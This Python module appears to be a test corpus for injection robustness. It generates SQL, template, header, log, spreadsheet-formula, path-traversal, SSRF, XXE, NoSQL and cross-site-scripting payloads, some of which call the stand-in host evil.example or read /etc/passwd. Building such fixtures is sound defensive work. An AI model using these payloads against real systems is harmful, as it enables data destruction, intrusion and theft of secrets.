"""Text that does something where it is read by the wrong reader: SQL, templates, headers, logs, tables, pages, eyes."""

from collections.abc import Iterator
from itertools import product
from typing import Final

EVALUATED: Final = "87654221"
"""What 12345 * 7095 + 66446 comes to: it stands in no payload, and in an answer only where one was carried out."""
FORGED: Final = "forged-line-qz"
HEADER: Final = "x-injected-qz"

_SUM = "12345*7095+66446"
_SQL: Final = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE member; --", "\"; DELETE FROM message; --", "') OR ('a'='a",
    "1; ATTACH DATABASE '/tmp/qz.db' AS qz; --", "' UNION SELECT NULL, NULL --", "' || (SELECT sqlite_version()) || '",
    "'; SELECT pg_sleep(9); --", "1 AND randomblob(900000000)", "\\'; --", "%' OR name_key LIKE '%", "$$; SELECT 1; $$",
    "/**/OR/**/1=1", "x'; PRAGMA writable_schema=1; --", "'; UPDATE member SET role='steward'; --",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% print(%s) %%}", "${{%s}}", "{{=%s}}", "*{%s}", "@(%s)",
    "{{''.__class__.__mro__[1].__subclasses__()}} {{%s}}", "{{config}} {{%s}}", "{{self._TemplateReference__context}} {{%s}}",
    "{%%raw%%}{{%s}}{%%endraw%%}", "{{%s|safe}}", "%%{%s}", "$(expr %s)", "`expr %s`", "; expr %s #", "| expr %s",
)  # fmt: skip
_HEADERS: Final = (
    f"a\r\n{HEADER}: yes", f"a\n{HEADER}: yes", f"a\r{HEADER}: yes", f"a%0d%0a{HEADER}: yes",
    f"a\u560d\u560a{HEADER}: yes", f"a\r\n\r\n<html>{HEADER}", f"a\u2028{HEADER}: yes", f"a\x85{HEADER}: yes",
)  # fmt: skip
_LOGS: Final = (
    f"a\nCRITICAL root: {FORGED}", f"a\r\nERROR server: {FORGED}", f"a\x1b[2J\x1b[31m{FORGED}", f"a\x08\x08{FORGED}",
    f"%s %d %(name)s {FORGED}", f"{{name}} {{0.__class__}} {FORGED}", f"a\u2028CRITICAL {FORGED}", f"\x9b31m{FORGED}",
)  # fmt: skip
_TABLES: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1",
    "\r=1+1", "＝1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")", ";=1+1", "\",=1+1",
)  # fmt: skip
_PATHS: Final = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/proc/self/environ", "....//....//etc/passwd", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_",
    "C:\\", "\\\\evil.example\\share", "/dev/zero", "con", "aux.txt", "~root", "$HOME", "*",
)  # fmt: skip
_QUERY_OBJECTS: Final = (
    '{"$gt": ""}', '{"$where": "sleep(9000)"}', '[{"$ne": null}]', "*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "__proto__", "constructor.prototype", '{"__proto__": {"role": "steward"}}', "null", "undefined", "NaN", "true", "0", "[]",
)  # fmt: skip
_TAGS: Final = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>", "<math><a xlink:href=javascript:{}>x",
    "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "<form><button formaction=\"javascript:{}\">x",
    "<style onload={}></style>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">",
    "<link rel=stylesheet href=\"javascript:{}\">", "<template><script>{}</script></template>", "<audio src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x></svg>", "<xss style=animation-name:x onanimationstart={}>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
)  # fmt: skip
_AROUND: Final = (
    "{}",
    '">{}',
    "'>{}",
    "-->{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "]]>{}",
    "&lt;{}",
    "{{{{{}}}}}",
    '\\"{}',
    "%3C{}",
)
_CALL: Final = "document.documentElement.dataset.qz=1"
_LOADING: Final = (
    "<img src=//evil.example/qz.png>", "<script src=//evil.example/qz.js></script>", "<link rel=stylesheet href=//evil.example/qz.css>",
    "<style>@import '//evil.example/qz.css';</style>", "![x](http://evil.example/qz.png)", "[x](javascript:document.documentElement.dataset.qz=1)",
    "<iframe src=//evil.example></iframe>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<div style=background:url(//evil.example/qz)>",
    "javascript:document.documentElement.dataset.qz=1", "data:text/html,<script>1</script>", "http://evil.example/qz", "//evil.example/qz",
)  # fmt: skip

UNICODE: Final[dict[str, str]] = {
    "zalgo": "a" + "\u0301\u0323" * 1_900,
    "ligature of eighteen": "\ufdfa" * 4_000,
    "bidi": "\u202e\u2066\u2067\u202a" * 900,
    "joined": "\U0001f469\u200d" * 1_900,
    "tags": "".join(map(chr, range(0xE0020, 0xE007F))) * 20,
    "private": "\ue000\U000f0000\U0010ffff" * 900,
    "no characters": "\ufffe\uffff\ufdd0",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff" * 700,
    "mathematical": "\U0001d4d0" * 3_900,
    "hangul fillers": "\u3164\u115f\uffa0" * 900,
    "combining first": "\u0301" * 3_900,
    "variation": "\u2764\ufe0f\ufe0e" * 900,
    "controls": "".join(map(chr, (*range(1, 32), *range(127, 160)))),
    "line ends": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    "right to left": "\u0627\u0644\u0644\u0647 " * 500,
}


def injections() -> list[str]:
    """Over five hundred of them, each once."""
    return list(dict.fromkeys(_all()))


def scripts() -> list[str]:
    """What would run, or load, in a page that takes text for markup."""
    made = (around.format(tag.format(_CALL)) for tag, around in product(_TAGS, _AROUND))
    upper = (tag.format(_CALL).replace("<s", "<S").replace("on", "oN", 1) for tag in _TAGS)
    entities = (tag.format("&#x61;lert`qz`") for tag in _TAGS)
    spaced = (tag.format(_CALL).replace(" ", "/", 1).replace("=", "\t=", 1) for tag in _TAGS)
    broken = (tag.format(_CALL)[:-1] for tag in _TAGS)
    loading = (around.format(one) for one, around in product(_LOADING, _AROUND))
    return list(dict.fromkeys((*made, *upper, *entities, *spaced, *broken, *loading)))


def _all() -> Iterator[str]:
    yield from _SQL
    yield from (template % _SUM for template in _TEMPLATES)
    yield from (*_HEADERS, *_LOGS, *_TABLES, *_PATHS, *_QUERY_OBJECTS)
    yield from scripts()
